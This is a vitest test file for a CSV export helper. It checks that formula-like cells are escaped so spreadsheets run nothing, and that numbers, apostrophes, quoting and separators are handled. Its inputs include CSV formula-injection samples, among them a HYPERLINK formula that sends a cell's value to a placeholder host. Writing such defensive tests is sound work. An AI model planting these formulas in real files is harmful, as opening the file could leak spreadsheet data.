import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvLines, readCsvCell, safeCsvCell } from '../../core/csv.ts';

describe('CSV files people open in a spreadsheet', () => {
  it('keep a cell that starts like a formula as text, so that opening the file runs nothing', () => {
    for (const formula of ['=HYPERLINK("http://x","clic")', '+A1*2', '-2+3', '@SUM(A1)', '\tcmd', '\rcmd']) {
      expect(safeCsvCell(formula)).toBe(`'${formula}`);
    }
    expect(safeCsvCell('Refus : le professionnel 591211263')).toBe('Refus : le professionnel 591211263');
  });

  it('leave numbers numbers, negative and French ones included', () => {
    for (const n of ['-12', '-0,33', '+4', '1 234,56', '-0.5']) expect(safeCsvCell(n)).toBe(n);
  });

  it('give back exactly what was written, a leading apostrophe included', () => {
    for (const value of ['=1+1', "'déjà cité'", 'texte', '-2+3', "'=1", "''", '-12', '=HYPERLINK("http://x/"&A1)']) expect(readCsvCell(safeCsvCell(value))).toBe(value);
  });

  it('remove an apostrophe only where the writer put one: a person’s own stays', () => {
    for (const typed of ["'Jérôme", "'-12", "'", "'1 234,56", 'texte']) expect(readCsvCell(typed)).toBe(typed);
    expect(readCsvCell("'=HYPERLINK(\"http://x/\"&A1)")).toBe('=HYPERLINK("http://x/"&A1)');
  });

  it('are `;` separated with CRLF, quoted where a cell holds a separator, a quote or a line break', () => {
    const text = csvLines([['a;b', 'dit "oui"', 'ligne\nsuivante', 12, null, '=1+1']]);
    expect(text).toBe('"a;b";"dit ""oui""";"ligne\nsuivante";12;;\'=1+1\r\n');
    expect(parse(text, { delimiter: ';' })).toEqual([['a;b', 'dit "oui"', 'ligne\nsuivante', '12', '', "'=1+1"]]);
  });
});
